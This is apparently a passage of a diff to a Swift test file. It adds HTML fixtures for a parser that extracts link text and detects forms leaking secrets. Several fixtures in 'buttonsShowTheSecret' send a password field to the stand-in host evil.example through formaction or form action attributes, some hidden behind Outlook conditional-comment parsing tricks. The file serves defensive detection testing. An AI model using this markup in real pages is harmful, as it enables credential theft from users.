@@ -24,6 +24,8 @@ import Testing
             "<p><a href=http://a.example/>one </p><!--[if mso]><p><a href=http://b.example/>two <p>three<![endif]-->four",
             ["one four", "two three"]
         ),
+        ("<a href=http://a.example/>one <!--[if mso]>x</a><a href=http://b.example/>two<![endif]-->three</a>four", ["one three", "two"]),
+        ("<a href=http://a.example/>one <iframe srcdoc='<p>x'></iframe>two</a>", ["one two"]),
         ("<p><a name=x>one <p>two</a><a href=http://a.example/>three", ["three"]),
         // Lines and cells are words of their own; what is on one line is not.
         ("<p><a href=http://a.example/>one<p>two", ["one two"]),
@@ -214,8 +216,9 @@ import Testing
         "<form action=http://a.example/><input name=pw type=password><button type=x formaction=http://evil.example/></form>",
         "<form action=http://a.example/><input name=pw type=password><button type='' formaction=http://evil.example/></form>",
         "<form id=f action=http://a.example/><input name=pw type=password></form><button form=f formaction=http://evil.example/>",
-        "<button form=f formaction=http://evil.example/></button><form id=f action=http://a.example/><input name=pw type=password></form>",
+        "<button form=f formaction=http://evil.example/></button><form id=f><input name=pw type=password></form>",
         "<!--[if mso]><form id=f></form><![endif]--><form id=f><input name=pw></form><button form=f formaction=http://evil.example/>",
+        "<form action=http://evil.example/><!--[if mso]></form>x<![endif]--><input name=pw type=password></form>",
         "<form><input name=pw><button form=none formaction=http://evil.example/></form>",
     ])
     func buttonsShowTheSecret(html: String) {
